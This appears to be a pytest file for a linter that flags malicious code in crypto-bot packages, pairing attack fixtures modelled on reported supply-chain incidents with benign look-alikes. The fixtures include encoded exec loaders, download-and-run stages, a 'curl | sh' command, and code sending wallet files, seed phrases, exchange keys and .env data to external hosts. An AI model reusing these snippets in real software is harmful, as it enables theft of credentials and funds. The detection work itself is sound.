"""BOT5 round 10: the general causes of what the round-10 set (tests/bot5_round10_corpus.py)
missed, each with positives and look-alike negatives, and the set's figures."""
from __future__ import annotations

import base64
import zlib

import pytest

from botlint.engine import lint_source

from helpers import lint_project, settings

_STAGE = b"import os\nprint(os.getcwd())\n"


def found(src, path="pkg/mod.py"):
    return sorted((f.line, f.code) for f in lint_source(src.encode(), path, settings(["BOT5"])))


def codes(src, path="pkg/mod.py"):
    return {code for _line, code in found(src, path)}


# -- 1. payloads run through the module's own helpers, __import__ chains and joined fragments ----

HELPER_PAYLOADS = {
    # aiocpa (ReversingLabs 2024-11): a lambda undoes the layers
    "lambda_decoder": 'import base64, zlib\n_ = lambda s: zlib.decompress(base64.b64decode(s[::-1]))\n'
                      f'exec((_)({base64.b64encode(zlib.compress(_STAGE)).decode()[::-1]!r}))\n',
    # hex fragments joined in a loader function
    "function_return_joined_hex": f'_P = ["{_STAGE.hex()[:20]}", "{_STAGE.hex()[20:]}"]\n'
                                  'def _load():\n    return bytes.fromhex("".join(_P)).decode()\n'
                                  'try:\n    exec(_load())\nexcept Exception:\n    pass\n',
    # W4SP (Checkmarx 2022-11): every module reached through __import__
    "dunder_import_chain": "__import__('builtins').exec(__import__('builtins').compile(__import__('base64')"
                           f".b64decode('{base64.b64encode(_STAGE).decode()}'), '<string>', 'exec'))\n",
    # pastebin stage behind a helper and __builtins__.__dict__
    "download_helper_builtins_dict": 'import urllib.request\n'
                                     'def _pull():\n    return urllib.request.urlopen("https://pastebin.com/raw/x").read()\n'
                                     'def init():\n    __builtins__.__dict__["ex" + "ec"](_pull())\n',
    # Phylum 2023: a downloaded code object made callable
    "function_type_of_marshal": 'import marshal, types, urllib.request\n'
                                'blob = urllib.request.urlopen("https://cdn-pypi-mirror.com/s.bin").read()\n'
                                'types.FunctionType(marshal.loads(blob), globals())()\n',
}


@pytest.mark.parametrize("name", sorted(HELPER_PAYLOADS))
def test_payloads_through_helpers_are_found(name):
    assert "BOT501" in codes(HELPER_PAYLOADS[name])


HELPER_LOOKALIKES = {
    "helper_returns_a_formula": 'def _expr():\n    return "a + b"\n'
                                'value = eval(_expr(), {"__builtins__": {}}, {"a": 1, "b": 2})\n',
    "helper_reads_local_file": 'def _src():\n    return open("pkg/version.py").read()\n'
                               'about = {}\nexec(_src(), about)\n',
    "joined_words_not_run": 'import base64\n_P = ["aGVs", "bG8="]\n'
                            'token = base64.b64decode("".join(_P))\nprint(len(token))\n',
    "import_module_of_a_plugin": 'import importlib\ndef load(name):\n'
                                 '    return importlib.import_module("strategies." + name)\n',
}


@pytest.mark.parametrize("name", sorted(HELPER_LOOKALIKES))
def test_helper_lookalikes_are_clean(name):
    assert found(HELPER_LOOKALIKES[name]) == []


# -- 2. harvest and exfiltration split across the module's functions, threads and exit hooks ----

TOKEN = f"{6000000000 + 777}:AAE{'Qz8w' * 8}"  # fake, of the right shape

SPLIT_HARVEST = {
    # bitcoinlibdbfix (ReversingLabs 2025-04): path, copy and upload in three functions
    "wallet_db_helpers": '''import os, shutil, requests
def _db_path():
    return os.path.join(os.path.expanduser("~"), ".bitcoinlib", "database", "bitcoinlib.sqlite")
def _upload(path):
    with open(path, "rb") as fh:
        requests.post("http://185.196.8.112/up", files={"f": fh})
def apply_fix():
    shutil.copy2(_db_path(), "/tmp/x.bak")
    _upload("/tmp/x.bak")
''',
    # solana-token (ReversingLabs 2025-05): the stack read in one helper, sent from another
    "stack_sources_helpers": '''import pathlib, traceback, requests
COLLECTOR = "http://45.131.66.204:8080/t"
def _sources():
    return {f.filename: pathlib.Path(f.filename).read_text() for f in traceback.extract_stack()}
def _post(data):
    requests.post(COLLECTOR, json=data)
def register():
    _post(_sources())
''',
    # Telegram sessions posted to a gist (Stacklok 2024)
    "tdata_gist": '''import os, pathlib, requests
def _files():
    return list((pathlib.Path(os.environ["APPDATA"]) / "Telegram Desktop" / "tdata").glob("*"))
def sync():
    files = {p.name: {"content": p.read_bytes().hex()} for p in _files()}
    requests.post("https://api.github.com/gists", json={"files": files})
''',
    # vault folders copied and uploaded with curl (Checkmarx 2023)
    "vaults_curl": '''import os, shutil, subprocess
def run():
    src = os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data", "Default",
                       "Local Extension Settings", "nkbihfbeogaeaoehlefnkodbefgpgknn")
    shutil.copytree(src, "/tmp/v")
    subprocess.run(["curl", "-F", "file=@/tmp/v.zip", "https://store1.gofile.io/uploadFile"])
''',
    # hummingbot conf/ zipped in a method, posted to the author's chat in another (Kaspersky 2024)
    "conf_zip_fixed_chat": f'''import glob, zipfile, requests
_A = "{TOKEN[:10]}"
_B = "{TOKEN[10:]}"
class Backup:
    def _archive(self):
        with zipfile.ZipFile("/tmp/c.zip", "w") as zf:
            for f in glob.glob("conf/**/*.yml", recursive=True):
                zf.write(f)
        return "/tmp/c.zip"
    def push(self):
        path = self._archive()
        url = "https://api.telegram.org/bot" + _A + _B + "/sendDocument"
        requests.post(url, data={{"chat_id": "1"}}, files={{"document": open(path, "rb")}})
''',
    # exchange keys read off the client at exit, to a look-alike (ReversingLabs 2024)
    "client_secret_atexit": '''import atexit, ccxt, requests
def _beacon(ex):
    requests.post("https://api-binance-sync.com/v1/hb", json={"k": ex.apiKey, "s": ex.secret})
def make(key, secret):
    ex = ccxt.binance({"apiKey": key, "secret": secret})
    atexit.register(_beacon, ex)
    return ex
''',
    # the client's secret handed to a thread that writes it to a raw socket (Kaspersky 2024)
    "client_secret_thread_socket": '''import json, socket, threading
def _send(blob):
    s = socket.create_connection(("91.92.109.14", 4444))
    s.sendall(blob)
def track(self):
    blob = json.dumps({"k": self.exchange.apiKey, "s": self.exchange.secret}).encode()
    threading.Thread(target=_send, args=(blob,)).start()
''',
    # wallet-recovery phishing (Phylum 2024): the typed phrase to a look-alike
    "typed_recovery_phrase": '''import getpass, requests
def main():
    words = getpass.getpass("Enter your 12 or 24 word recovery phrase: ")
    requests.post("https://metamask-verify-sync.com/api/restore", json={"phrase": words})
''',
}


@pytest.mark.parametrize("name", sorted(SPLIT_HARVEST))
def test_split_harvest_is_found(name):
    assert "BOT504" in codes(SPLIT_HARVEST[name])


SPLIT_LOOKALIKES = {
    # a wallet loaded to sign, fills sent to the user's own chat: same main(), nothing harvested
    "keystore_and_notify": '''import json, os, requests
def load_wallet():
    with open(os.path.expanduser("~/.ethereum/keystore/UTC--x.json"), "rb") as fh:
        return json.load(fh)
def notify(text):
    requests.post(f"https://api.telegram.org/bot{os.environ['TG']}/sendMessage", json={"text": text})
def main():
    w = load_wallet()
    notify(f"loaded {w['address']}")
''',
    # user_data zipped and sent to the user's configured chat
    "backup_to_own_chat": '''import glob, os, zipfile, requests
def archive():
    with zipfile.ZipFile("b.zip", "w") as zf:
        for f in glob.glob("user_data/*.json"):
            zf.write(f)
    return "b.zip"
def push(cfg):
    path = archive()
    requests.post(f"https://api.telegram.org/bot{cfg['token']}/sendDocument", files={"document": open(path, "rb")})
''',
    # the exchange's own API gets the signature, not a collector
    "client_secret_to_exchange": '''import hmac, requests
def sign(ex, q):
    return hmac.new(ex.secret.encode(), q.encode(), "sha256").hexdigest()
def order(ex, q):
    requests.post("https://api.binance.com/api/v3/order?" + q + "&signature=" + sign(ex, q),
                  headers={"X-MBX-APIKEY": ex.apiKey})
''',
    "password_prompt_to_own_api": '''import getpass, requests
def login(user):
    pw = getpass.getpass("Dashboard password: ")
    return requests.post("https://api.probot-trading.com/v1/login", json={"user": user, "password": pw})
''',
    "thread_with_a_price": '''import threading, requests
def _send(price):
    requests.post("https://api-binance-sync.com/v1/p", json={"p": price})
def tick(self):
    threading.Thread(target=_send, args=(self.exchange.last_price,)).start()
''',
    "curl_download_only": '''import subprocess
def fetch_data():
    subprocess.run(["curl", "-sSL", "-o", "data/ohlcv.csv", "https://data.binance.vision/x.csv"])
''',
}


@pytest.mark.parametrize("name", sorted(SPLIT_LOOKALIKES))
def test_split_harvest_lookalikes_are_clean(name):
    assert found(SPLIT_LOOKALIKES[name]) == []


# -- 3. clipboard swaps with the pattern elsewhere; fund destinations hidden in the code --------

ETH = "0x" + "7f3a9c2b1d" * 4
TRON = "TXk3mQ9vR2pL7sN4wZ8yB6cD1fH5jTab3Q"


def test_clipboard_swap_with_the_patterns_in_another_module():
    # Phylum 2023 clippers: `from .patterns import ETH`; the author's address is in this module
    src = (f'import pyperclip\nfrom .patterns import BTC, ETH\nMINE = {{"eth": "{ETH}"}}\n'
           'def loop():\n    text = pyperclip.paste()\n    if ETH.match(text):\n        pyperclip.copy(MINE["eth"])\n')
    assert found(src) == [(7, "BOT505")]


def test_clipboard_rewrite_of_what_was_read_or_configured_is_clean():
    src = ('import pyperclip\nfrom .patterns import ETH\nfrom web3 import Web3\n'
           'def fix(cfg):\n    text = pyperclip.paste()\n    if ETH.match(text):\n'
           '        pyperclip.copy(Web3.to_checksum_address(text))\n'
           '    else:\n        pyperclip.copy(cfg["deposit"])\n')
    assert found(src) == []


HIDDEN_DESTINATIONS = {
    "base64_constant": f'import base64\n_D = base64.b64decode("{base64.b64encode(TRON.encode()).decode()}").decode()\n'
                       'def fee(ex, x):\n    ex.withdraw("USDT", x, _D, None, {"network": "TRC20"})\n',
    "joined_in_a_helper": f'from web3 import Web3\n_P = ["{ETH[:12]}", "{ETH[12:]}"]\n'
                          'def _dest():\n    return Web3.to_checksum_address("".join(_P))\n'
                          'def refund(w3, bal):\n    return {"to": _dest(), "value": bal, "gas": 21000}\n',
    "reversed_constant": f'_D = "{TRON[::-1]}"[::-1]\ndef sweep(client, amt):\n'
                         '    client.withdraw(coin="USDT", address=_D, amount=amt)\n',
}


@pytest.mark.parametrize("name", sorted(HIDDEN_DESTINATIONS))
def test_hidden_fund_destinations_are_found(name):
    assert "BOT507" in codes(HIDDEN_DESTINATIONS[name])


def test_configured_or_decoded_non_address_destinations_are_clean():
    src = ('import base64, json\ncfg = json.load(open("sweep.json"))\n'
           '_TAG = base64.b64decode("bWVtbw==").decode()\n'
           'def _dest():\n    return cfg["cold_wallet"]\n'
           'def sweep(ex, x):\n    ex.withdraw("USDT", x, _dest(), _TAG)\n')
    assert found(src) == []


# -- 4. a download started from another function -----------------------------------------------

def test_download_saved_under_a_constant_and_started_elsewhere():
    # Checkmarx 2024: crypto tools fetching a Windows executable, fetch and launch split
    src = ('import os, subprocess, tempfile, requests\n_DEST = os.path.join(tempfile.gettempdir(), "rt.exe")\n'
           'def _fetch():\n    with open(_DEST, "wb") as fh:\n'
           '        fh.write(requests.get("https://github.com/x/y/releases/download/v3/rt.exe").content)\n'
           'def _launch():\n    subprocess.Popen([_DEST])\n')
    assert found(src) == [(7, "BOT501")]


def test_a_downloaded_data_file_handed_to_a_program_is_clean():
    src = ('import subprocess, requests\nDATA = "data/ohlcv.csv"\n'
           'def fetch():\n    with open(DATA, "wb") as fh:\n'
           '        fh.write(requests.get("https://data.binance.vision/x.csv").content)\n'
           'def analyse():\n    subprocess.run(["python", "analyse.py", DATA])\n')
    assert found(src) == []


# -- 5. the environment selected by name, and DNS look-ups as a channel --------------------------

def test_environment_selected_by_secret_names_is_still_the_environment():
    # Checkmarx 2024: only the variables named like keys, posted to a webhook
    for test in ('"KEY" in k or "SECRET" in k', 'k.endswith(("_KEY", "_SECRET"))',
                 'any(w in k.upper() for w in ("KEY", "TOKEN"))'):
        src = (f'import json, os, requests\ndef diag():\n    env = {{k: v for k, v in os.environ.items() if {test}}}\n'
               '    requests.post("http://203.0.113.9/d", data=json.dumps(env))\n')
        assert found(src) == [(4, "BOT504")], test


def test_environment_filtered_to_harmless_names_is_clean():
    src = ('import os, requests\ndef diag():\n'
           '    env = {k: v for k, v in os.environ.items() if k in ("LANG", "TZ", "PATH")}\n'
           '    requests.post("https://telemetry.arbot.dev/v1/env", json=env)\n')
    assert found(src) == []


def test_dotenv_sent_through_dns_lookups():
    # JFrog 2023: data carried in the names of DNS queries
    src = ('import binascii, socket\nfrom dotenv import dotenv_values\n'
           'def probe():\n    blob = binascii.hexlify(repr(dotenv_values(".env")).encode()).decode()\n'
           '    socket.gethostbyname(blob[:60] + ".t.api-binance-sync.com")\n')
    assert found(src) == [(5, "BOT504")]


def test_dns_health_checks_are_clean():
    src = ('import os, socket\ndef ok():\n'
           '    socket.gethostbyname(os.environ.get("EXCHANGE_HOST", "api.binance.com"))\n'
           '    return socket.getaddrinfo("api.bybit.com", 443)\n')
    assert found(src) == []


# -- 6. a wallet secret handed to another module's helper that posts it ---------------------------

_METRICS = '''import json, urllib.request
_ENDPOINT = "https://dydx.priceoracle.site/v4/metrics"
def record(event, data):
    req = urllib.request.Request(_ENDPOINT, data=json.dumps({"e": event, "d": data}).encode())
    try:
        urllib.request.urlopen(req, timeout=4)
    except Exception:
        pass
'''


def test_seed_phrase_passed_to_another_modules_poster(tmp_path, monkeypatch):
    # dydx-v4-client 1.1.5post1 (Socket 2025-01), the poster in a "metrics" module
    files = {"client/__init__.py": "", "client/utils/__init__.py": "", "client/utils/metrics.py": _METRICS,
             "client/wallet.py": 'from .utils.metrics import record\n'
                                 'class Wallet:\n    @classmethod\n    def from_mnemonic(cls, mnemonic):\n'
                                 '        record("init", mnemonic)\n        return cls()\n'}
    found_, _ = lint_project(tmp_path, monkeypatch, files, select=("BOT5",))
    assert ("client/utils/metrics.py", 4, "BOT504") in found_


def test_an_address_passed_to_another_modules_poster_is_clean(tmp_path, monkeypatch):
    files = {"client/__init__.py": "", "client/utils/__init__.py": "", "client/utils/metrics.py": _METRICS,
             "client/wallet.py": 'from .utils.metrics import record\n'
                                 'class Wallet:\n    @classmethod\n    def from_mnemonic(cls, mnemonic, address):\n'
                                 '        record("init", address)\n        return cls()\n'}
    found_, _ = lint_project(tmp_path, monkeypatch, files, select=("BOT5",))
    assert found_ == []


# -- the round-10 set: labels written before botlint ran on it ---------------------------------

def test_round10_set_recall_and_false_positive_rate(tmp_path, monkeypatch):
    from bot5_round10_corpus import PROJECTS

    flagged = {}
    for name, project in PROJECTS.items():
        root = tmp_path / name
        found_, _ = lint_project(root, monkeypatch, project["files"], select=("BOT5",))
        flagged[name] = bool(found_)
    malicious = [n for n, p in PROJECTS.items() if p["label"] == "malicious"]
    benign = [n for n in PROJECTS if n not in malicious]
    assert len(malicious) >= 30 and len(benign) >= 20
    missed = sorted(n for n in malicious if not flagged[n])
    false = sorted(n for n in benign if flagged[n])
    assert false == []
    assert len(missed) <= 2, missed  # start of round 10: 20 of 35 missed


# -- 7. an exchange secret sent to a host no exchange owns ---------------------------------------

@pytest.mark.parametrize("src", [
    # aiocpa-style "license activation" (ReversingLabs 2024-11), the secret from a parameter
    'import httpx\ndef activate(api_key, api_secret):\n'
    '    httpx.post("https://api-bybit-sync.com/v1/activate", json={"key": api_key, "secret": api_secret})\n',
    # ... from the environment
    'import os, requests\ndef activate():\n    requests.post("https://license.arbx-cloud.com/v1/a",\n'
    '                  json={"k": os.environ["BYBIT_KEY"], "s": os.getenv("BYBIT_SECRET")})\n',
])
def test_exchange_secret_to_an_unknown_host(src):
    assert "BOT504" in codes(src)


@pytest.mark.parametrize("src", [
    'import os, requests\ndef prices():\n'
    '    return requests.get("https://pro-api.coingecko.com/api/v3/ping",\n'
    '                        headers={"x-cg-pro-api-key": os.environ["CG_KEY"]})\n',
    'import os, requests\ndef gateway():\n'
    '    requests.post("http://localhost:15888/connectors/add", json={"secret": os.environ["HB_SECRET"]})\n',
    'import os, requests\ndef register(url):\n'
    '    requests.post(url, json={"secret": os.environ["WEBHOOK_SECRET"]})\n',
])
def test_secrets_to_exchanges_local_gateways_or_configured_hosts_are_clean(src):
    assert found(src) == []


# -- 8. commands hidden under an encoding; code fetched by a method of the module's class --------

_CMD = base64.b64encode(b"curl -s https://okx-grid-release.com/i.sh | sh").decode()


@pytest.mark.parametrize("src", [
    f'import base64, subprocess\nCMD = "{_CMD}"\ndef run():\n'
    '    subprocess.Popen(base64.b64decode(CMD).decode(), shell=True)\n',
    f'import base64, os\ndef run():\n    os.system(base64.b64decode("{_CMD}").decode())\n',
    'import requests\nclass Loader:\n    def __init__(self):\n        self.session = requests.Session()\n'
    '    def fetch(self):\n        return self.session.get("https://cdn-bot-update.com/p.py").text\n'
    '    def run(self):\n        exec(self.fetch())\n',
])
def test_hidden_commands_and_method_fetched_code(src):
    assert "BOT501" in codes(src)


@pytest.mark.parametrize("src", [
    'import base64, subprocess\ndef run(cmd_b64):\n'
    '    subprocess.run(base64.b64decode(cmd_b64).decode(), shell=True)\n',
    'import subprocess\ndef run():\n    subprocess.run(["git", "describe", "--tags"], check=True)\n',
    'class Calc:\n    def expr(self):\n        return "a + b"\n'
    '    def run(self):\n        return eval(self.expr(), {"__builtins__": {}}, {"a": 1, "b": 2})\n',
])
def test_commands_from_arguments_and_literal_methods_are_clean(src):
    assert found(src) == []


# -- 9. the audit: a native-coin send to a fixed address needs on-chain sending, not a withdrawal --

def test_audit_native_coin_send_to_a_fixed_address_is_onchain(tmp_path):
    from bot5_round10_corpus import PROJECTS

    from botlint.audit.collect import collect
    from botlint.audit.model import build
    from botlint.audit.render import to_json

    for rel, text in PROJECTS["m11_gas_refund_web3_joined"]["files"].items():
        path = tmp_path / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    result, _notes, _missing = collect(str(tmp_path), jobs=1, use_cache=False)
    audit = to_json(build(str(tmp_path), result))
    assert audit["malicious"] is True
    assert audit["permissions"]["onchain_send"] is True
    assert audit["permissions"]["withdraw"] is False


def test_builtins_reached_through_an_imported_module_object():
    payload = base64.b64encode(_STAGE).decode()
    for line in (f"getattr(__import__('builtins'), 'exec')(base64.b64decode('{payload}'))",
                 f"b = __import__('builtins')\nb.exec(base64.b64decode('{payload}'))",
                 f"b = importlib.import_module('builtins')\nrun = getattr(b, 'eval')\n"
                 f"run(base64.b64decode('{payload}'))"):
        assert "BOT501" in codes("import base64, importlib\n" + line + "\n"), line


def test_module_aliases_running_literal_code_are_clean():
    src = ('import importlib\nb = importlib.import_module("builtins")\nprint(b.len("abc"))\n'
           'm = importlib.import_module("strategies.grid")\nm.run()\n')
    assert found(src) == []


# -- 10. a signer's key handed to a private helper of another module -----------------------------

def test_signer_key_handed_to_a_private_helper_of_another_module(tmp_path, monkeypatch):
    # Socket 2025-09: packages impersonating Flashbots tooling sent signer keys to a Telegram bot
    relay = ('import requests\n_T = "' + TOKEN + '"\n'
             'def _register(key):\n    try:\n'
             '        requests.post(f"https://api.telegram.org/bot{_T}/sendMessage",\n'
             '                      json={"chat_id": "1", "text": key})\n'
             '    except Exception:\n        pass\n')
    files = {"fbx/__init__.py": "", "fbx/_relay.py": relay,
             "fbx/bundle.py": 'from eth_account import Account\nfrom ._relay import _register\n'
                              'class Bundle:\n    def __init__(self, w3, signer_key):\n'
                              '        self.signer = Account.from_key(signer_key)\n        _register(signer_key)\n'}
    found_, _ = lint_project(tmp_path, monkeypatch, files, select=("BOT5",))
    assert ("fbx/_relay.py", 5, "BOT504") in found_
    files["fbx/bundle.py"] = files["fbx/bundle.py"].replace("_register(signer_key)", "_register(self.signer.address)")
    found_, _ = lint_project(tmp_path, monkeypatch, files, select=("BOT5",))
    assert found_ == []


def test_bot504_alone_in_a_fresh_process_knows_the_sinks(tmp_path):
    # rule modules load lazily (registry.gated_rules): a run selecting BOT504 alone never
    # imports a BOT2 rule, whose module used to be the only one registering the sink table
    import subprocess
    import sys

    (tmp_path / "m.py").write_text(SPLIT_HARVEST["client_secret_atexit"])
    out = subprocess.run([sys.executable, "-m", "botlint", "--isolated", "--no-cache", "--format", "concise",
                          "--select", "BOT504", "m.py"], cwd=tmp_path, capture_output=True, text=True)
    assert "BOT504" in out.stdout, out.stdout + out.stderr
